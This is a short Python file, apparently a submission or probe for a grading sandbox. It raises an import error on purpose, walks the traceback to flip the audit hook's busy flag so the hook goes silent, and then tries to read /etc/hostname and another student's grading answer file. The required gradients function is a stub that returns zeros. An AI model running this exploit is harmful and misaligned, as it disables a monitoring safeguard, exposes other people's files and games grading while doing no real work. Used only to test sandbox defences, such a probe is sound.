"""The hook's busy flag: imports a package the sandbox does not have, catches the error,
walks its traceback to the audit hook's frame, sets the flag that switched the hook off
while it reported, then reads a file outside its folder and another student's."""
import os

import numpy as np

HERE = os.path.dirname(np.__file__)
TARGETS = ["/etc/hostname"] + [
    p for p in (os.path.join(HERE, *[".."] * k, "tests", "grading", "iris", "correct.py")
                for k in range(2, 8)) if os.path.exists(p)][:1]

try:
    import scipy  # noqa: F401
except ImportError as err:
    tb = err.__traceback__
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            if isinstance(value, list) and value and isinstance(value[0], bool):
                value[0] = True
        tb = tb.tb_next

for path in TARGETS:
    try:
        with open(path) as fh:
            print("LEAKED", path, fh.read(60))
    except OSError as err:
        print("refused", path, err.errno)


def gradients(X, Y, W, V):
    return np.zeros_like(W), np.zeros_like(V)
